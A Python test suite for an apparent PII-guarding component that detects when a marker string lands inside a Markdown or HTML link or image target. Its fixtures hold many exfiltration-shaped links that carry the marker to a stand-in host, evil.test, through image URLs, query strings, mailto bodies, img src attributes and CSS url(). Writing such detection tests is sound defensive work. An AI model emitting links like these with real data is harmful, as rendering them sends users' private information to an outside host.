"""Where targets of links and images are, as renderers read them."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sentinel_plugins.pii.targets import Targets
from tests.long_form import long_form
from tests.plugins.guarding.growth import MOST, growth
from tests.properties import promised

HERE = "Q4M0X7B2D9F1K3P8N"
TARGETS = {
    "inline": f"[x](https://evil.test/?q={HERE})",
    "image": f"![x](https://evil.test/{HERE}.png)",
    "whole": f"![x]({HERE})",
    "relative": f"![x](//evil.test/{HERE})",
    "backslashes": f"![x](\\\\evil.test\\{HERE})",
    "entities": f"![x](https&#58;//evil.test/{HERE})",
    "next line": f"![x](\n  https://evil.test/{HERE})",
    "parentheses": f"[x](https://evil.test/(a)(b)/{HERE})",
    "escaped parenthesis": f"[x](/evil\\)/{HERE})",
    "angles": f"[x](<https://evil.test/a) b {HERE}>)",
    "title": f'[x](/y "{HERE}")',
    "defined": f"[x][1]\n\n[1]: //evil.test/{HERE}",
    "defined on the next line": f"![1]\n\n[1]:\n  /evil/{HERE}",
    "defined in angles": f"[1]: <//evil.test/a b {HERE}>",
    "autolink": f"<https://evil.test/{HERE}>",
    "mail": f"<mailto:x@evil.test?body={HERE}>",
    "bare": f"see https://evil.test/?q={HERE}",
    "bare, after a comma": f"https://evil.test/,{HERE}",
    "bare, after a quote": f'https://evil.test/"{HERE}',
    "bare, with brackets around a tag": f"https://evil.test/[<p>{HERE}]",
    "www": f"WWW.evil.test/{HERE}",
    "no scheme": f"evil.test/{HERE}",
    "no scheme, a query": f"see evil.test?q={HERE}",
    "no scheme, a port": f"EVIL.test:8080/#{HERE}",
    "no scheme, letters of any script": f"пример.рф/{HERE}",
    "no scheme, letters with marks": f"उदाहरण.भारत/{HERE}",
    "no scheme, a domain in ASCII": f"evil.xn--p1ai/{HERE}",
    "no scheme, the longest domain": f"evil.xn--{'a' * 59}:65535/{HERE}",
    "mailto": f"mailto:x@evil.test?subject={HERE}",
    "after an unmade link": f"[x](a b https://evil.test/a){HERE}",
    "attribute": f'<img src="/evil/{HERE}">',
    "attribute without quotes": f"<img src=/evil/{HERE}>",
    "after signs in a value without quotes": f"""<img a=b=" c='">' src="/evil/{HERE}">""",
    "after a quote in a value without quotes": f"""<img a=b' c="'>" src="/evil/{HERE}">""",
    "after a name of signs": f"""<img =" c='">' src="/evil/{HERE}">""",
    "after two signs": f"""<img a==" c='">' src="/evil/{HERE}">""",
    "after what is no space": f"""<img a=b\vc=" d='">' src="/evil/{HERE}">""",
    "after a name without a value": f"""<img a b = "c>" src='/evil/{HERE}'>""",
    "attribute in capitals": f"<IMG SRC='//evil.test/{HERE}'>",
    "after a bracket in a quote": f'<img alt=">" src="/evil/{HERE}">',
    "over lines": f'<img\n\n src\n=\n"/evil/{HERE}">',
    "slash": f'<img/src="/evil/{HERE}">',
    "style": f'<p style="background:url(/evil/{HERE})">',
    "style in quotes": f"p {{background: URL('/evil)/{HERE}')}}",
    "link tag": f'<link rel=x href="/evil/{HERE}">',
    "slack": f"<https://evil.test/{HERE}|text>",
    "a tag begun like an address": f"<www.evil.test/{HERE}",
}
TEXTS = {
    "prose": f"write to {HERE}, please",
    "words of a link": f"[{HERE}](https://acme.test/x)",
    "words of an image": f"![{HERE}](https://acme.test/x)",
    "behind a link": f"[x](https://acme.test/x) {HERE}",
    "behind an address": f"https://acme.test/x {HERE}",
    "behind an unfinished link": f"a[0](b\n\n{HERE}",
    "in angles": f"Ann <{HERE}>",
    "element": f"<p>{HERE}</p>",
    "behind a tag with signs": f"""<img a=b=" c='d'> {HERE}""",
    "words of a tag": f'<a href="https://acme.test/">{HERE}</a>',
    "compared": f"if a <b then {HERE}",
    "brackets": f"[x] ({HERE})",
    "behind an address and a tag": f"https://acme.test/x<br>{HERE}",
    "ratio": f"a:b/{HERE}",
    "code": f"`{HERE}`",
    "list": f"- {HERE}\n- b",
    "behind a definition": f"[1]: /x {HERE}",
}


def inside(text: str, *cuts: int) -> bool:
    """What the pieces before the mark say of its place."""
    targets = Targets()
    before = text[: text.index(HERE)]
    at = sorted({0, len(before), *(place % (len(before) + 1) for place in cuts)})
    for start, end in pairwise(at):
        targets.feed(before[start:end])
    return targets.inside


@pytest.mark.parametrize("name", TARGETS)
def test_targets(name: str) -> None:
    assert inside(TARGETS[name])


@pytest.mark.parametrize("name", TEXTS)
def test_texts_that_are_none(name: str) -> None:
    assert not inside(TEXTS[name])


PIECES = st.lists(
    st.sampled_from(
        [
            *(
                "[",
                "]",
                "(",
                ")",
                "![x](",
                "[y](",
                "[1]: ",
                "[1]",
                "<",
                ">",
                "<img ",
                "<a ",
                "src=",
                "href='",
                "'",
                '"',
            ),
            *(
                "//",
                "https://",
                "www.",
                "mailto:",
                "/x",
                "evil.test/",
                " ",
                "\n",
                "\n\n",
                "\\",
                "\\)",
                "a",
                "é",
                "&#58;",
            ),
            *(
                "evil.com",
                ".рф",
                "evil.xn--p1ai",
                ".com",
                "?q=",
                "#",
                ":8",
                "url(",
                "<p>",
                "`",
                "*",
                ":",
                "=",
                "!",
                "t",
            ),
        ]
    ),
    max_size=14,
).map("".join)


@promised()
@given(PIECES, st.lists(st.integers(0, 200), max_size=6))
def test_p6_it_does_not_matter_where_a_text_is_cut(before: str, cuts: list[int]) -> None:
    assert inside(before + HERE, *cuts) == inside(before + HERE)


COMMONMARK = MarkdownIt("commonmark", {"html": True}).render
GITHUB = MarkdownIt("gfm-like").render


class Addresses(HTMLParser):
    """Every value of an attribute that a browser may go to."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value for name, value in attrs if value and name in ("href", "src", "style")]


def addresses(html: str) -> list[str]:
    parser = Addresses()
    parser.feed(html)
    parser.close()
    return parser.found


def known_late(address: str) -> bool:
    """Whether only what follows the value makes it the name of a host or of a mailbox: `ann@acme.com.evil.com`. No text
    here says `http:` itself."""
    return HERE in re.split("[/?#]", address.removeprefix("http://").removeprefix("mailto:"))[0]


@given(PIECES, PIECES)
def test_every_target_that_a_renderer_makes_is_one(before: str, after: str) -> None:
    """Others' parsers as oracles: CommonMark with HTML, GitHub's Markdown with addresses that stand for themselves, and
    HTML alone."""
    assume("<!" not in before + after)  # the parser of HTML gives up at declarations
    assume("==" not in before + after)  # and skips the second, with which a browser begins a value
    for render in (COMMONMARK, GITHUB, str):
        for address in addresses(render(f"{before}{HERE}{after}")):
            if HERE in address and not known_late(address):
                assert inside(before + HERE)


@long_form
@pytest.mark.parametrize(
    "text", ["[x](", "<a ", "<aaaa", "//", "\\", "(", "]:", "<img =", "\n", "url('", "](\n", "w", "]"]
)
def test_the_time_is_linear(text: str) -> None:
    def work(whole: str) -> None:
        targets = Targets()
        for at in range(0, len(whole), 4096):
            targets.feed(whole[at : at + 4096])

    assert growth(work, text) <= MOST
